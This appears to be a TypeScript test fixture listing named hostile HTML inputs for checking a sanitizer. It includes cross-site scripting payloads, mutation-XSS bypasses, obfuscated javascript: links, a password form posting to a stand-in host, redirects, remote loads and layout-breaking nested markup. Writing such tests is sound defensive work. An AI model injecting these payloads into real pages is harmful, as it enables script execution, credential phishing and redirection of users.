const veces = (n: number, abrir: string, dentro: string, cerrar: string): string =>
  abrir.repeat(n) + dentro + cerrar.repeat(n);

const ZALGO = `Z${'\u0301\u0316\u0489'.repeat(80)}`;
const TAB = '\t';

/** What people paste from bad places, and what others would write on purpose, each with its name. */
export const TEXTOS_HOSTILES: readonly (readonly [nombre: string, html: string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['script in capitals', '<SCRIPT SRC="https://malo.example/x.js"></SCRIPT>'],
  ['script of another type', '<script type="module">import("https://malo.example/x.js")</script>'],
  ['script broken in two', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script without its end', '<script>alert(1)'],
  ['svg with onload', '<svg onload="alert(1)"><circle r="9"/></svg>'],
  ['svg with a script', '<svg><script>alert(1)</script></svg>'],
  [
    'svg that animates a link',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  ],
  ['svg that uses another', '<svg><use href="https://malo.example/x.svg#x"/></svg>'],
  ['svg with a foreign body', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'],
  ['image with onerror', '<img src=x onerror=alert(1)>'],
  ['image of another site', '<img src="https://malo.example/espia.gif" alt="x">'],
  ['image as data', '<img alt="x" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['image with a srcset', '<img src="/imagenes/x.webp" srcset="https://malo.example/a.png 1x" alt="x">'],
  [
    'picture of another site',
    '<picture><source srcset="https://malo.example/a.avif"><img src="https://malo.example/a.png"></picture>',
  ],
  ['javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript link with entities', '<a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">x</a>'],
  ['javascript link with a tab', `<a href="java${TAB}script:alert(1)">x</a>`],
  ['javascript link after spaces', '<a href="  javascript:alert(1)">x</a>'],
  ['javascript link after a control', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['link without scheme', '<a href="//malo.example">x</a>'],
  ['link that opens a window', '<a href="/contacto" target="_blank" rel="opener" onclick="alert(1)">x</a>'],
  [
    'autofocus with onfocus',
    '<input autofocus onfocus=alert(1)><p tabindex=0 autofocus onfocus=alert(1)>x</p>',
  ],
  [
    'mouse and animation handlers',
    '<p onmouseover=alert(1) onanimationstart=alert(1) onpointerenter=alert(1)>x</p>',
  ],
  ['css expression', '<p style="width:expression(alert(1));background:url(javascript:alert(1))">x</p>'],
  ['style sheet', '<style>body{display:none}@import "https://malo.example/x.css"</style>'],
  ['style sheet as a link', '<link rel="stylesheet" href="https://malo.example/x.css">'],
  ['cover over the page', '<div style="position:fixed;inset:0;background:red;z-index:99999">x</div>'],
  ['cover by class', '<div class="modal veil portada tabla destacado" id="contenido">x</div>'],
  ['far away text', '<p style="position:absolute;left:9000px;width:9000px">x</p>'],
  ['iframe', '<iframe src="https://malo.example"></iframe>'],
  ['iframe with its document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    'object, embed and applet',
    '<object data="https://malo.example/x.swf"></object><embed src="https://malo.example/x.swf"><applet code="x"></applet>',
  ],
  [
    'form that asks for the password',
    '<form action="https://malo.example"><input name="password"><button formaction="javascript:alert(1)">Entrar</button></form>',
  ],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://malo.example">'],
  ['base', '<base href="https://malo.example/"><a href="/contacto">x</a>'],
  [
    'video and audio',
    '<video src="https://malo.example/v.mp4" autoplay onloadstart=alert(1)></video><audio src="https://malo.example/a.mp3" autoplay></audio>',
  ],
  ['details that toggle', '<details open ontoggle=alert(1)><summary>x</summary>y</details>'],
  ['dialog and popover', '<dialog open>x</dialog><div popover>y</div>'],
  ['marquee', '<marquee onstart=alert(1)>x</marquee>'],
  [
    'template',
    '<template><script>alert(1)</script></template><template shadowrootmode=open><p>x</p></template>',
  ],
  ['math', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  [
    'math and mglyph',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['title mutation', '<svg></p><title><a id="</title><img src=x onerror=alert(1)>"></title></svg>'],
  ['textarea mutation', '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  [
    'form and math mutation',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['select mutation', '<select><style></select><img src=x onerror=alert(1)></style>'],
  [
    'xmp, plaintext and listing',
    '<xmp><img src=x onerror=alert(1)></xmp><listing>&lt;img onerror=alert(1)&gt;</listing><plaintext>fin',
  ],
  [
    'comment with a page in it',
    '<!--><img src=x onerror=alert(1)>--><!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  ],
  [
    'CDATA and instructions',
    '<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="javascript:alert(1)"?>',
  ],
  [
    'attribute that breaks out',
    `<p title='"><script>alert(1)</script>'>x</p><p title="&quot;><img src=x onerror=alert(1)>">y</p>`,
  ],
  ['tables 500 deep', veces(500, '<table><tr><td>', 'x', '</td></tr></table>')],
  ['boxes 5000 deep', veces(5000, '<div><blockquote>', 'x', '</blockquote></div>')],
  ['lists 300 deep', veces(300, '<ul><li>', 'x', '</li></ul>')],
  ['highlights 100 deep', veces(100, '<aside class="destacado"><section>', 'x', '</section></aside>')],
  [
    'table of 300 columns',
    `<table width="9000"><tr>${'<td nowrap width="400">columna ancha</td>'.repeat(300)}</tr></table>`,
  ],
  ['cell over thousands', '<table><tr><td colspan="100000" rowspan="65534">x</td></tr></table>'],
  [
    'endless word',
    `<p>${'palabra'.repeat(2000)}</p><h2>${'W'.repeat(3000)}</h2><table><tr><td>${'x'.repeat(3000)}</td></tr></table>`,
  ],
  [
    'inline width',
    '<div style="width:99999px"><p width="99999">x</p><hr width="99999" size="9999"><font size="7">y</font></div>',
  ],
  [
    'text turned round',
    '<p dir="rtl">\u202etxet a si siht\u202c</p><bdo dir="rtl">x</bdo><p>\u2067\u2067\u2067y</p>',
  ],
  ['marks piled up', `<p>${`${ZALGO} `.repeat(40)}</p>`],
  [
    'pre that does not break',
    `<pre>${'x '.repeat(2000)}</pre><code>${'y'.repeat(2000)}</code><nobr>${'z'.repeat(2000)}</nobr>`,
  ],
  [
    'a whole page',
    '<!doctype html><html lang="en" dir="rtl"><head><title>Otra</title></head><body onload=alert(1) bgcolor="red"><h1>Otro título</h1><main>x</main></body></html>',
  ],
  [
    'paste of an office program',
    '<html xmlns:o="urn:schemas-microsoft-com:office:office"><o:p>&nbsp;</o:p><p class="MsoNormal" style="mso-margin-top-alt:auto;margin-left:-900pt"><span lang="ES" style="font-size:72pt;color:white">Hola</span></p>',
  ],
  [
    'slots of the router',
    '<a href="/private/partidos" data-discover="true">x</a><script type="application/json" id="__staticRouterHydrationData">{}</script>',
  ],
  [
    'mark inside an address',
    '<a href="https://malo.example/{{club.nombre}}{{campus.tabla}}">x</a><a href="{{club.email}}">y</a>',
  ],
];
